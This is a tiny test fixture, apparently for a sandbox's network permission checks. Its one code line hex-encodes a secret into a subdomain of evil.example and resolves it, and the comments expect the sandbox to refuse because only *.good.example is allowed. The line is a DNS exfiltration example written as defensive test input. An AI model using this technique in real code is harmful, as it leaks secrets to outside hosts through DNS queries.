-- Asks the DNS for a name that spells a secret.
-- allow: dns *.good.example
-- says: not permitted; to permit it, add this line to `allow`: "dns \*.evil.example"
dns.addresses(crypto.hex_encode(run.secret) .. ".evil.example")
